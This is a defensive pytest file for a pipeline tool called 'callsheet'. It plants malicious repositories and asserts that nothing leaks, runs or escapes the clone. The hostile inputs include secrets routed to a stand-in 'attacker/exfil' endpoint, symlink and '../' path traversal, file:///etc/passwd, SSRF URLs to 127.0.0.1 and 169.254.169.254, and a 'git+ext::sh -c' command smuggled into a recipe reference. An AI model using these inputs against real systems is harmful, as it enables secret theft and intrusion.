"""Repositories made to do harm, each in one way: cloned, checked, planned, previewed, and run with `--yes`.

Nothing outside of the clone is read or written, no variable is sent, no code runs that nobody trusts, and
what is unusual is said before anything is sent.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from callsheet.cli.main import main
from callsheet.emulator import Emulator

STILL = "fal-ai/hunyuan-image/v3/text-to-image"
EDIT = "fal-ai/pika/v2.2/image-to-video"
CHAT = "text/chat"
THEIRS = "attacker/exfil"
SECRETS = {"MY_KEY": "planted-variable-1", "AWS_SECRET_ACCESS_KEY": "planted-variable-2"}
PRIVATE = b"planted-private-bytes"
HEAD = "callsheet: 1\nname: film\n"
LOOKING = (
    ("check", "film.yaml"),
    ("graph", "film.yaml"),
    ("plan", "film.yaml"),
    ("explain", "film.yaml", "still"),
    ("lock", "film.yaml", "--check"),
    ("diff", "HEAD", "--", "film.yaml"),
    ("models", "show", THEIRS),
    ("runs",),
    ("costs",),
    ("cache", "ls"),
)
BUYING = (("run", "film.yaml", "--preview"), ("run", "film.yaml", "--yes"), ("resume", "--yes"))
Harm = Callable[[Path], None]


def film(nodes: str, outputs: str = "{}", inputs: str = "{}", more: str = "") -> Harm:
    text = f"{HEAD}{more}inputs: {inputs}\nnodes:\n{nodes}\noutputs: {outputs}\n"
    return lambda clone: _write(clone / "film.yaml", text)


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def link(name: str, target: str) -> Harm:
    """A link in the clone, whose target is seen from the folder that the link lies in."""

    def harm(clone: Path) -> None:
        path = clone / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return harm


def both(*harms: Harm) -> Harm:
    def harm(clone: Path) -> None:
        for one in harms:
            one(clone)

    return harm


def document(endpoint: str) -> Harm:
    """An endpoint that the clone brings along, with a parameter for a secret."""

    def content(schema: Any) -> dict[str, Any]:
        return {"content": {"application/json": {"schema": schema}}}

    text = {"type": "string"}
    taken = {"type": "object", "properties": {"prompt": text, "api_key": text, "file_url": text}}
    made = {"type": "object", "properties": {"text": text}}
    paths = {
        f"/{endpoint}": {"post": {"requestBody": content(taken)}},
        f"/{endpoint}/requests/{{request_id}}": {"get": {"responses": {"200": content(made)}}},
    }
    return lambda clone: _write(clone / f"models/{endpoint}.json", json.dumps({"paths": paths}))


STOLEN = f"  a: {{uses: {THEIRS}, with: {{prompt: hi, api_key: {{secret: MY_KEY}}}}}}"
INNER = f"""callsheet: 1
name: inner
inputs: {{lines: {{type: list, items: {{id: string}}}}}}
axes: {{line: {{over: "${{{{ inputs.lines }}}}"LIMIT}}}}
nodes: {{leak: {{each: line, uses: {THEIRS}, with: {{prompt: hi, api_key: {{secret: MY_KEY}}}}}}}}
outputs: {{t: "${{{{ leak.text }}}}"}}
"""
GROWING = f"""  script:
    uses: {CHAT}
    with: {{prompt: write, schema: {{lines: {{type: list, items: {{id: string}}}}}}}}
  use: {{uses: ./inner.yaml, with: {{lines: "${{{{ script.lines }}}}"}}}}"""
PICTURE = f"  a: {{uses: {EDIT}, with: {{prompt: hi, image_url: PATH}}}}"
CODE = (
    "from pathlib import Path\nPath(__file__).with_name('ran').touch()\ndef make() -> str:\n    return 'x'\n"
)


def sends(path: str) -> Harm:
    return film(PICTURE.replace("PATH", path))


def grows(limit: str) -> Harm:
    inner = INNER.replace("LIMIT", limit)
    return both(document(THEIRS), film(GROWING), lambda clone: _write(clone / "inner.yaml", inner))


def plan_of_theirs(name: str) -> Harm:
    """A saved plan that trusts code and agrees to its costs, called like a pipeline."""

    def harm(clone: Path) -> None:
        film("  a: {uses: './code.py#make'}")(clone)
        (clone / "film.yaml").rename(clone / "other.yaml")
        _write(clone / "code.py", CODE)
        record = {"file": "other.yaml", "sets": [], "inputs": None, "only": [], "out": "..", "trust": True}
        ground = {"pipeline": "", "files": {}, "instances": {}, "lock": ""}
        _write(clone / name, json.dumps({"callsheet_plan": 1, "record": record, "ground": ground}))

    return harm


def run_of_theirs(**record: Any) -> Harm:
    """A ledger with a run that was stopped, as its author says."""

    def harm(clone: Path) -> None:
        from callsheet.runtime.ledger.database import open_ledger

        code = film("  a: {uses: './code.py#make'}")
        asks = film(
            PICTURE.replace("PATH", '"${{ inputs.p }}"'), inputs="{p: {type: image, default: ./own.png}}"
        )
        (code if "trust" in record else asks)(clone)
        _write(clone / "code.py", CODE)
        (clone / ".callsheet").mkdir()
        ledger = open_ledger(clone / ".callsheet/ledger.db")
        kept = {"file": "film.yaml", "sets": [], "inputs": None, "only": [], "out": "out", **record}
        values = {
            "name": "film-1", "pipeline": json.dumps(kept), "pid": 1, "started": 1.0, "status": "",
            "unpriced": 1, "agreed": json.dumps({"version": 1, "files": {}, "others": {}, "usd": 99}),
        }  # fmt: skip
        marks = ", ".join("?" * len(values))
        ledger.execute(f"INSERT INTO runs ({', '.join(values)}) VALUES ({marks})", [*values.values()])
        ledger.close()

    return harm


def every_blob_folder(clone: Path) -> None:
    for state in (".callsheet", ".callsheet/preview"):
        for number in range(256):
            depth = "../" * (state.count("/") + 3)
            link(f"{state}/blobs/{number:02x}", f"{depth}outside")(clone)


def writes(before: str, after: str) -> Harm:
    return lambda clone: _write(clone / "film.yaml", WRITES.replace(before, after))


NOTHING = "  a: {uses: text/split, with: {text: hi}}"
ROWS = "{l: {type: list, items: {id: string}, default: PATH}}"
HARMS: dict[str, tuple[Harm, str]] = {
    "a variable in a prompt": (
        film(f"  a: {{uses: {STILL}, with: {{prompt: {{secret: MY_KEY}}}}}}"), "is not a secret",
    ),
    "a variable for a chat": (
        film(f"  a: {{uses: {CHAT}, with: {{prompt: {{secret: FAL_KEY}}}}}}"), "error[secret-place]",
    ),
    "a provider's key": (
        both(document(THEIRS), film(STOLEN.replace("MY_KEY", "FAL_KEY"))), "error[secret-place]",
    ),
    "a variable for an endpoint of theirs": (
        both(document(THEIRS), film(STOLEN)), "MY_KEY is sent to attacker/exfil",
    ),
    "an endpoint of theirs": (
        both(document(THEIRS), film(f"  a: {{uses: {THEIRS}, with: {{prompt: hi}}}}")),
        "attacker/exfil is described by this project alone",
    ),
    "an endpoint of theirs as an alternative": (
        both(
            document(THEIRS),
            film(
                f"  a: {{uses: {CHAT}, with: {{prompt: hi}}, fallback: [{{uses: {THEIRS}, "
                "with: {prompt: hi, api_key: {secret: MY_KEY}}}]}"
            ),
        ),
        "MY_KEY is sent to attacker/exfil",
    ),
    "an endpoint of theirs in a recipe": (grows(""), "MY_KEY is sent to attacker/exfil"),
    "an endpoint of theirs in a list to come": (grows(", max: 3"), "MY_KEY is sent to attacker/exfil"),
    "a chosen endpoint of theirs": (
        both(
            document(THEIRS),
            film(
                "  a: {each: m, uses: '${{ m }}', with: {prompt: hi}}",
                more=f"axes: {{m: [{THEIRS}, attacker/other]}}\n",
            ),
            document("attacker/other"),
        ),
        "attacker/other is described by this project alone",
    ),
    "a file beside the clone": (sends("../outside/private.png"), "error[local-file]"),
    "an absolute path": (
        lambda clone: sends(str(clone.parent / "outside/private.png"))(clone), "error[local-file]",
    ),
    "a path in an expression": (
        film(
            PICTURE.replace("PATH", '"${{ inputs.p }}"'),
            inputs="{p: {type: string, default: ../outside/private.png}}",
        ),
        "error[",
    ),
    "a file that begins with a dot": (
        both(sends("./.private.png"), lambda clone: _write(clone / ".private.png", "planted-private-bytes")),
        "error[local-file]",
    ),
    "a link to a file": (both(sends("./pic.png"), link("pic.png", "../outside/private.png")), "lies outside"),
    "a link to a folder": (both(sends("./pics/private.png"), link("pics", "../outside")), "lies outside"),
    "a file URL": (sends("file:///etc/passwd"), "error["),
    "a URL of this machine": (sends("http://127.0.0.1:1/a.png"), "error[media-url]"),
    "a URL with a password": (sends("https://user:pass@example.org/a.png"), "error[media-url]"),
    "a URL inside": (sends("https://169.254.169.254/latest/a.png"), "error[media-url]"),
    "a list from elsewhere": (
        film(NOTHING, inputs=ROWS.replace("PATH", "../outside/l.csv")), "error[local-file]",
    ),
    "a linked list": (
        both(film(NOTHING, inputs=ROWS.replace("PATH", "./l.csv")), link("l.csv", "../outside/l.csv")),
        "error[local-file]",
    ),
    "a recipe from elsewhere": (film("  a: {uses: ../outside/recipe.yaml}"), "error["),
    "a linked recipe": (
        both(film("  a: {uses: ./r.yaml}"), link("r.yaml", "../outside/recipe.yaml")), "error[",
    ),
    "a recipe from a host": (film("  a: {uses: 'git+https://127.0.0.1:1/x@main#a.yaml'}"), "127.0.0.1"),
    "a recipe by a helper": (film("  a: {uses: 'git+ext::sh -c touch% ran@main#a.yaml'}"), "error["),
    "code": (
        both(film("  a: {uses: './code.py#make'}"), lambda clone: _write(clone / "code.py", CODE)), "--trust",
    ),
    "a plan called a pipeline": (plan_of_theirs("film.yaml"), "error["),
    "a run with code": (run_of_theirs(trust=True), "runs code beside the pipeline"),
    "a run with a file of mine": (run_of_theirs(sets=["p=../outside/private.png"]), "reads ../outside/"),
    "a run that writes elsewhere": (run_of_theirs(out="../outside"), "writes into ../outside"),
    "every folder of the store": (every_blob_folder, "is a link to a place outside"),
    "prices of theirs": (
        both(
            film("  a: {uses: fal-ai/t2v-turbo, with: {prompt: hi}}"),
            lambda clone: _write(clone / "models/prices.yaml", "fal-ai/t2v-turbo: {usd: 0, unit: request}\n"),
        ),
        "models/prices.yaml line 1 says that fal-ai/t2v-turbo costs nothing, which nobody else says; it"
        " counts as unpriced until you grant it",
    ),
    "a name that leads out": (writes("name: film", "name: .."), "error[bad-name]"),
    "an output that leads out": (writes("mine:", "../mine:"), "error[bad-name]"),
}  # fmt: skip
WRITES = f"""{HEAD}inputs: {{s: {{type: json, default: {{evil: 1}}}}, p: {{type: image, default: ./own.png}}}}
nodes:
  still: {{uses: media/fit_image, with: {{image: "${{{{ inputs.p }}}}", width: 64}}}}
outputs: {{mine: "${{{{ inputs.s }}}}", pic: "${{{{ still.image }}}}"}}
"""
LINKS = {
    "out": "../outside",
    "out/film": "../../outside",
    "out/film/preview": "../../../outside",
    "out/film/parts": "../../../outside",
    "out/film/preview/parts": "../../../../outside",
    "out/film/mine.json": "../../../outside/mine.json",
    "out/film/preview/mine.json": "../../../../outside/mine.json",
    "out/film/pic.png": "../../../outside/private.png",
    "out/film/.callsheet.jsonl": "../../../outside/new.jsonl",
    "out/film/preview/.callsheet.jsonl": "../../../../outside/mine.json",
    ".callsheet": "../outside",
    ".callsheet/work": "../../outside",
    ".callsheet/work/1-x": "../../../outside",
    ".callsheet/preview": "../../outside",
    ".callsheet/preview/work": "../../../outside",
    ".callsheet/receipts": "../../outside",
    ".callsheet/.gitignore": "../../outside/private.png",
    ".callsheet/ledger.db": "../../outside/ledger.db",
    ".callsheet/cache.db": "../../outside/cache.db",
    ".callsheet/lock": "../../outside/lock",
    "film.lock.yaml": "../outside/film.lock.yaml",
    "models": "../outside",
}


@pytest.fixture
def clone(seller: Emulator, in_folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A clone, below a folder with things of the user's, and variables of theirs."""
    outside = in_folder / "outside"
    outside.mkdir()
    for name in ("private.png", "l.csv", "mine.json", "recipe.yaml", "work/1-mine/x"):
        (outside / name).parent.mkdir(parents=True, exist_ok=True)
        (outside / name).write_bytes(PRIVATE)
    clone = in_folder / "clone"
    clone.mkdir()
    Image.new("RGB", (8, 8)).save(clone / "own.png")
    subprocess.run(["git", "init", "-q", clone], check=True)
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(clone)
    return clone


@pytest.fixture
def connected(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Every address that this process connects to or looks up."""
    found: list[object] = []
    connect, look_up = socket.socket.connect, socket.getaddrinfo
    monkeypatch.setattr(socket.socket, "connect", lambda s, to: (found.append(to), connect(s, to))[1])
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: (found.append(a[0]), look_up(*a, **k))[1])
    return found


def said(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    with pytest.raises(SystemExit):
        main(words)
    text = "".join(capsys.readouterr())
    assert "Traceback" not in text and "a bug" not in text, text
    assert not any(value in text for value in SECRETS.values())
    return text


def around(clone: Path) -> dict[str, tuple[int, int, int, bytes]]:
    """Everything beside the clone: mode, time and content."""
    found = {}
    for path in sorted((clone.parent / "outside").rglob("*")):
        status = path.lstat()
        content = path.read_bytes() if path.is_file() else b""
        found[str(path)] = (status.st_mode, status.st_mtime_ns, status.st_size, content)
    status = (clone.parent / "outside").lstat()
    return {**found, "": (status.st_mode, status.st_mtime_ns, 0, b"")}


def sent(seller: Emulator) -> Iterator[bytes]:
    for entry in seller.posts:
        yield json.dumps(entry.body).encode()
    for path in Path(os.environ["CALLSHEET_CONFIG"]).rglob("*"):
        assert not path.is_file(), "nothing was granted"


def held(clone: Path, seller: Emulator, connected: list[object], capsys: Any, word: str) -> None:
    before = around(clone)
    told = "".join(said(capsys, *words) for words in LOOKING)
    assert connected == [], "to look opens no connection"
    assert word in told + said(capsys, "resume"), told
    for words in BUYING:
        said(capsys, *words)
    assert around(clone) == before
    assert not list(clone.rglob("ran"))
    everything = b"".join(sent(seller))
    for value in (*(secret.encode() for secret in SECRETS.values()), PRIVATE):
        assert value not in everything
    assert THEIRS not in {entry.endpoint for entry in seller.posts}
    for path in clone.rglob("*"):
        assert (
            path.is_symlink() or not path.is_file() or PRIVATE not in path.read_bytes() or path.name[0] == "."
        )
    strangers = [to for to in connected if isinstance(to, tuple) and f":{to[1]}" not in seller.url]
    assert strangers == []


@pytest.mark.parametrize("name", HARMS)
def test_it_does_no_harm(
    name: str, clone: Path, seller: Emulator, connected: list[object], capsys: Any
) -> None:
    harm, word = HARMS[name]
    _write(clone / "film.yaml", WRITES)
    harm(clone)
    held(clone, seller, connected, capsys, word)


@pytest.mark.parametrize("name", LINKS)
def test_no_link_is_followed_out(
    name: str, clone: Path, seller: Emulator, connected: list[object], capsys: Any
) -> None:
    _write(clone / "film.yaml", WRITES)
    link(name, LINKS[name])(clone)
    held(clone, seller, connected, capsys, "")


@pytest.mark.parametrize("start", ["module", "script"])
def test_no_module_beside_a_pipeline_is_imported(start: str, clone: Path) -> None:
    """The folder that one stands in is where Python looks first."""
    script = clone.parent / "callsheet-script"
    _write(script, "from callsheet.cli.main import main\nmain()\n")
    command = [sys.executable, *(("-m", "callsheet") if start == "module" else (str(script),))]
    _write(clone / "film.yaml", WRITES)
    for name in ("yaml", "httpx", "json", "sqlite3", "click", "av", "PIL", "jinja2", "rich", "ast"):
        _write(clone / f"{name}.py", CODE)
    for words in (("check", "film.yaml"), ("run", "film.yaml", "--preview")):
        done = subprocess.run([*command, *words], capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
    assert not (clone / "ran").exists()
